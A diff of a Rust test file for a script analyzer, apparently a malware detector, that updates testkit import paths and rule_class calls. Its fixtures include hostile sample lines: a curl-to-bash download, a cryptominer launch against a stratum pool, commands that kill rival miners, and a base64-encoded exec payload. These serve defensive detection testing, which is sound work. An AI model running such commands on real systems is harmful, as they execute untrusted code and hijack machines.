@@ -1,12 +1,12 @@
 use super::ScriptAnalyzer;
-use crate::analyze::config::testkit::{check_manifest, rule_class, run};
 use crate::analyze::config::ConfigAnalyzer;
+use crate::analyze::testkit::{check_manifest, rule_class, run};
 use crate::judge::finding::Class;
 use crate::judge::verdict::Level;
 
 #[test]
 fn manifest() {
-    let failures = check_manifest(&[&ConfigAnalyzer, &ScriptAnalyzer], "fixtures/script");
+    let failures = check_manifest(&[&ConfigAnalyzer, &ScriptAnalyzer], "script");
     assert!(failures.is_empty(), "\n{}", failures.join("\n"));
 }
 
@@ -26,13 +26,19 @@ fn one_behaviour_alone_is_clean_and_classes_combine() {
         "up.sh",
         "#!/bin/sh\ncurl -s https://get.example.com | bash\n",
     );
-    assert_eq!(rule_class(&f, "pipe_to_shell"), Some(Class::DownloadExec));
+    assert_eq!(
+        rule_class(&f, "script", "pipe_to_shell"),
+        Some(Class::DownloadExec)
+    );
     assert_eq!(v.level, Level::Clean);
     let (f, v) = both(
         "up.sh",
         "#!/bin/sh\nkillall -9 xmrig minerd\n./xmrig -o stratum+tcp://198.51.100.1:3333 -u x\n",
     );
-    assert_eq!(rule_class(&f, "kill_rival_miners"), Some(Class::RivalKill));
+    assert_eq!(
+        rule_class(&f, "script", "kill_rival_miners"),
+        Some(Class::RivalKill)
+    );
     assert_eq!(v.level, Level::Malicious);
 }
 
@@ -40,10 +46,13 @@ fn one_behaviour_alone_is_clean_and_classes_combine() {
 fn rivals_named_in_a_list_above_the_kill() {
     let text = "#!/bin/bash\nprocs=(xmrig ccminer cpuminer-opt)\nfor p in \"${procs[@]}\"; do\n  pkill -9 -f \"$p\"\ndone\n";
     let (f, _) = both("k.sh", text);
-    assert_eq!(rule_class(&f, "kill_rival_miners"), Some(Class::RivalKill));
+    assert_eq!(
+        rule_class(&f, "script", "kill_rival_miners"),
+        Some(Class::RivalKill)
+    );
     // An unrelated kill is not a rival kill.
     let (f, _) = both("k.sh", "#!/bin/bash\nkill -HUP $(cat /run/nginx.pid)\n");
-    assert!(rule_class(&f, "kill_rival_miners").is_none());
+    assert!(rule_class(&f, "script", "kill_rival_miners").is_none());
 }
 
 #[test]
@@ -53,9 +62,18 @@ fn decodes_one_layer_of_base64() {
     let b64 = base64::engine::general_purpose::STANDARD.encode(inner);
     let text = format!("import base64\nexec(base64.b64decode('{b64}'))\n");
     let (f, v) = both("x.py", &text);
-    assert_eq!(rule_class(&f, "base64_to_shell"), Some(Class::Evasion));
-    assert_eq!(rule_class(&f, "pipe_to_shell"), Some(Class::DownloadExec));
-    assert_eq!(rule_class(&f, "encoded_payload"), Some(Class::Evasion));
+    assert_eq!(
+        rule_class(&f, "script", "base64_to_shell"),
+        Some(Class::Evasion)
+    );
+    assert_eq!(
+        rule_class(&f, "script", "pipe_to_shell"),
+        Some(Class::DownloadExec)
+    );
+    assert_eq!(
+        rule_class(&f, "script", "encoded_payload"),
+        Some(Class::Evasion)
+    );
     assert_eq!(v.level, Level::Suspicious);
 }
 
@@ -69,7 +87,7 @@ fn documentation_is_judged_by_its_content_not_its_name() {
     );
     let (f, v) = both("guide.md", &doc);
     assert_eq!(v.level, Level::Clean, "{f:?}");
-    assert_eq!(rule_class(&f, "pipe_to_shell"), Some(Class::Info));
+    assert_eq!(rule_class(&f, "script", "pipe_to_shell"), Some(Class::Info));
     // The same commands alone, under a documentation name and directory: a script.
     let (_, v) = both("docs/guide.md", commands);
     assert_eq!(v.level, Level::Malicious);
@@ -90,7 +108,7 @@ fn the_line_gate_admits_every_line_match() {
     use super::{gated_line_regexes, LINE_GATE, RULES, RULE_SET};
     let line_regexes = gated_line_regexes();
     let mut checked = 0;
-    for (_, text) in crate::analyze::config::testkit::text_fixtures() {
+    for (_, text) in crate::analyze::testkit::text_fixtures() {
         let text = text.replace('\n', " é\r\n");
         let gate = LINE_GATE.matches(&text);
         for line in text.lines() {
